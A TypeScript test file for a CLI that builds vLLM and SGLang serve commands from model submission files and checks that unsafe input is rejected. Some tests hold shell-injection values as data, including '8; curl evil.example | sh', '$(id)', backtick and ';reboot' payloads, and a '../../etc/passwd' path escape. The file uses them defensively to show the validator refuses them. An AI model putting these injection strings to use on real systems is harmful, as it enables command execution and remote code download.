import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { Submission } from '../../../src/schema/index.ts';
import { UnsafeServeError, assertSafeArg, buildServeCommand, formatCommand, shellQuote } from '../../../runners/engines/serve-command.ts';
import { REPO_ROOT, runCli } from '../../helpers/cli.ts';
import { paperSubmission, tempRepo } from '../../helpers/community-fixtures.ts';

/** The paper's model set, as committed: file → what the command must carry. */
const PAPER: Record<string, { repo: string; tp: number }> = {
  'qwen/qwen3.5-0.8b.yaml': { repo: 'Qwen/Qwen3.5-0.8B', tp: 1 },
  'qwen/qwen3.5-2b.yaml': { repo: 'Qwen/Qwen3.5-2B', tp: 1 },
  'qwen/qwen3.5-4b.yaml': { repo: 'Qwen/Qwen3.5-4B', tp: 1 },
  'qwen/qwen3.5-9b.yaml': { repo: 'Qwen/Qwen3.5-9B', tp: 1 },
  'qwen/qwen3.5-27b.yaml': { repo: 'Qwen/Qwen3.5-27B', tp: 0 },
  'qwen/qwen3.5-35b-a3b.yaml': { repo: 'Qwen/Qwen3.5-35B-A3B', tp: 0 },
  'qwen/qwen3.5-122b-a10b.yaml': { repo: 'Qwen/Qwen3.5-122B-A10B', tp: 0 },
  'qwen/qwen3.5-397b-a17b.yaml': { repo: 'Qwen/Qwen3.5-397B-A17B', tp: 8 },
  'openai/gpt-oss-20b.yaml': { repo: 'openai/gpt-oss-20b', tp: 1 },
  'openai/gpt-oss-120b.yaml': { repo: 'openai/gpt-oss-120b', tp: 1 },
  'zai-org/glm-4.5-air.yaml': { repo: 'zai-org/GLM-4.5-Air', tp: 4 },
};

const flag = (argv: string[], name: string) => {
  const i = argv.indexOf(name);
  return i < 0 ? undefined : argv[i + 1];
};

test('serve-cmd --json for every submission of the paper set: model id, revision, TP size, max model len, template flags', () => {
  const files = readdirSync(join(REPO_ROOT, 'submissions'), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.yaml')).sort();
  assert.deepEqual(files, Object.keys(PAPER).sort(), 'the paper set changed: update this table');
  for (const [rel, expected] of Object.entries(PAPER)) {
    const file = `submissions/${rel}`;
    const sub = Submission.parse(paperSubmission(file));
    const r = runCli(['serve-cmd', file, '--json']);
    assert.equal(r.code, 0, `${file}: ${r.stderr}`);
    const argv = JSON.parse(r.stdout) as string[];
    assert.ok(Array.isArray(argv) && argv.every((a) => typeof a === 'string'));
    assert.deepEqual(argv.slice(0, 3), ['vllm', 'serve', expected.repo], file);
    assert.equal(flag(argv, '--revision'), sub.hf.revision, file);
    assert.equal(flag(argv, '--served-model-name'), sub.id, file);
    assert.equal(flag(argv, '--tensor-parallel-size'), String(sub.serving.tensor_parallel_size), file);
    if (expected.tp > 0) assert.equal(sub.serving.tensor_parallel_size, expected.tp, `${file}: TP size`);
    assert.equal(flag(argv, '--max-model-len'), String(sub.serving.max_model_len), file);
    assert.equal(flag(argv, '--generation-config'), 'vllm', 'model-repo sampling defaults must not apply');
    // Hub templates: the engine uses the repo's own template at the pinned revision: no override flag.
    assert.equal(argv.includes('--chat-template'), false, file);
    assert.equal(argv.includes('--default-chat-template-kwargs'), false, file);
    // No engine_args: the paper set runs on each engine's defaults (vLLM and SGLang cache prefixes by default).
    assert.deepEqual(sub.serving.engine_args, {}, file);
    // The human form is the same argv, one shell word per element (checked through the CLI for the first few).
    if (rel.startsWith('openai/') || rel.startsWith('zai-org/')) {
      const human = runCli(['serve-cmd', file]);
      assert.equal(human.code, 0);
      assert.equal(human.stdout.trim(), formatCommand(argv));
    }
  }
});

test('chat-template flags: a repository template file and template kwargs reach the command as single arguments', () => {
  const sub = paperSubmission();
  sub.chat_template = { source: 'file', path: 'templates/qwen3.5-no-think.jinja' };
  sub.generation = { template_kwargs: { enable_thinking: false, reasoning_effort: 'low', budget: 3 } };
  const cmd = buildServeCommand(Submission.parse(sub), { root: '.' });
  assert.equal(flag(cmd.argv, '--chat-template'), 'templates/qwen3.5-no-think.jinja');
  assert.equal(flag(cmd.argv, '--default-chat-template-kwargs'), '{"budget":3,"enable_thinking":false,"reasoning_effort":"low"}');
  assert.match(formatCommand(cmd.argv), / --default-chat-template-kwargs '\{"budget":3,"enable_thinking":false,"reasoning_effort":"low"\}'/);
  assert.equal(cmd.base_url, 'http://127.0.0.1:8000/v1');
  assert.equal(cmd.served_model_name, 'qwen3.5-9b');
});

test('SGLang: python -m sglang.launch_server with the same facts', () => {
  const sub = Submission.parse(paperSubmission('submissions/zai-org/glm-4.5-air.yaml'));
  const cmd = buildServeCommand(sub, { engine: 'sglang', port: 30000 });
  assert.deepEqual(cmd.argv.slice(0, 5), ['python', '-m', 'sglang.launch_server', '--model-path', 'zai-org/GLM-4.5-Air']);
  assert.equal(flag(cmd.argv, '--tp-size'), '4');
  assert.equal(flag(cmd.argv, '--context-length'), '32768');
  assert.equal(flag(cmd.argv, '--revision'), 'main');
  assert.equal(flag(cmd.argv, '--served-model-name'), 'glm-4.5-air');
  assert.equal(cmd.base_url, 'http://127.0.0.1:30000/v1');
});

test('the schema rejects unsafe engine_args values before serve-cmd sees them (exit 1, file and field named)', () => {
  const sub = paperSubmission();
  sub.serving.engine_args = { 'max-num-seqs': '8; curl evil.example | sh' };
  const root = tempRepo({ 'submissions/qwen/qwen3.5-9b.yaml': sub });
  const r = runCli(['serve-cmd', 'submissions/qwen/qwen3.5-9b.yaml', '--json'], { cwd: root });
  assert.equal(r.code, 1);
  assert.equal(r.stdout, '');
  assert.match(r.stderr, /submissions\/qwen\/qwen3\.5-9b\.yaml: serving\.engine_args\.max-num-seqs: must contain only/);
});

test('a bad --port or --host is a usage error (exit 2) naming the flag, before the submission is read', () => {
  for (const [flag, value, message] of [['--port', '99999', /--port must be at most 65535/], ['--port', 'abc', /--port must be an integer/], ['--host', 'a b;rm', /--host: refused/]] as const) {
    const r = runCli(['serve-cmd', 'submissions/none/missing.yaml', flag, value]);
    assert.equal(r.code, 2, `${flag} ${value}: ${r.stderr}`);
    assert.match(r.stderr, message);
    assert.doesNotMatch(r.stderr, /missing\.yaml/);
  }
});

test('defence in depth: values that got past the schema are refused by serve-cmd itself', () => {
  const base = Submission.parse(paperSubmission());
  const attacks: Array<[string, (s: any) => void, RegExp]> = [
    ['engine arg value with ;', (s) => (s.serving.engine_args = { 'max-num-seqs': '8;reboot' }), /engine_args\.max-num-seqs: refused/],
    ['engine arg value with $()', (s) => (s.serving.engine_args = { dtype: '$(id)' }), /refused/],
    ['engine arg value with backticks', (s) => (s.serving.engine_args = { dtype: '`id`' }), /refused/],
    ['engine arg value with a space', (s) => (s.serving.engine_args = { dtype: 'auto --trust-remote-code' }), /refused/],
    ['engine arg value that is another option', (s) => (s.serving.engine_args = { dtype: '--trust-remote-code' }), /must not start with "-"/],
    ['engine arg value with a newline', (s) => (s.serving.engine_args = { dtype: 'auto\nreboot' }), /refused/],
    ['engine arg name with shell text', (s) => (s.serving.engine_args = { 'x;reboot': true }), /flag names must be lowercase/],
    ['flag that runs remote code', (s) => (s.serving.engine_args = { 'trust-remote-code': true }), /not on the vllm allowlist/],
    ['flag that loads a plugin', (s) => (s.serving.engine_args = { 'tool-parser-plugin': 'x.py' }), /not on the vllm allowlist/],
    ['reserved flag', (s) => (s.serving.engine_args = { revision: 'other' }), /sets --revision itself/],
    ['repo with shell text', (s) => (s.hf.repo = 'Qwen/Qwen3.5-9B;reboot'), /hf\.repo: refused/],
    ['repo that is an option', (s) => (s.hf.repo = '--help'), /hf\.repo: refused/],
    ['revision with $', (s) => (s.hf.revision = 'main$(id)'), /hf\.revision: refused/],
    ['revision with ..', (s) => (s.hf.revision = 'a/../b'), /hf\.revision: refused/],
    ['id with a pipe', (s) => (s.id = 'x|y'), /id: refused/],
    ['template path with spaces', (s) => (s.chat_template = { source: 'file', path: 'a b.jinja' }), /chat_template\.path: refused/],
    ['template path escaping', (s) => (s.chat_template = { source: 'file', path: '../../etc/passwd' }), /chat_template\.path: refused/],
    ['template kwarg with a quote', (s) => (s.generation.template_kwargs = { x: `'; reboot; '` }), /template_kwargs\.x: refused/],
    ['template kwarg key', (s) => (s.generation.template_kwargs = { 'a b': true }), /template_kwargs\.a b: refused/],
    ['TP size that is text', (s) => (s.serving.tensor_parallel_size = '1 --x'), /tensor_parallel_size: refused/],
    ['max len NaN', (s) => (s.serving.max_model_len = Number.NaN), /max_model_len: must be a finite number/],
    ['unknown engine', (s) => (s.serving.engine = 'mlx'), /builds commands for vllm, sglang, tgi, llamacpp, ollama only/],
    ['GGUF engine without a quantisation', (s) => (s.serving.engine = 'llamacpp'), /serving\.gguf_quant: llama\.cpp serves GGUF files/],
    ['GGUF quantisation with shell text', (s) => ((s.serving.engine = 'ollama'), (s.serving.gguf_quant = 'Q4;reboot')), /serving\.gguf_quant: refused/],
  ];
  for (const [name, mutate, message] of attacks) {
    const s = structuredClone(base) as any;
    mutate(s);
    assert.throws(() => buildServeCommand(s), (e: unknown) => e instanceof UnsafeServeError && message.test(e.message), name);
  }
  assert.throws(() => buildServeCommand(base, { host: '0.0.0.0;reboot' }), UnsafeServeError);
});

test('assertSafeArg and shellQuote: plain words bare, everything else single-quoted so a shell reads it back as one word', () => {
  assert.equal(assertSafeArg('f', 'Qwen/Qwen3.5-9B'), 'Qwen/Qwen3.5-9B');
  assert.equal(assertSafeArg('f', 0.9), '0.9');
  assert.equal(shellQuote('plain-word_1.0'), 'plain-word_1.0');
  const tricky = [`it's`, '$(id)', '`id`', 'a b', '{"a":true}', "'", '', 'x;y|z&w>v<u', '\\', '!event', '*glob?'];
  const line = ['printf', '%s\\n', ...tricky].map(shellQuote).join(' ');
  const r = spawnSync('sh', ['-c', line], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  assert.deepEqual(r.stdout.split('\n').slice(0, -1), tricky);
});
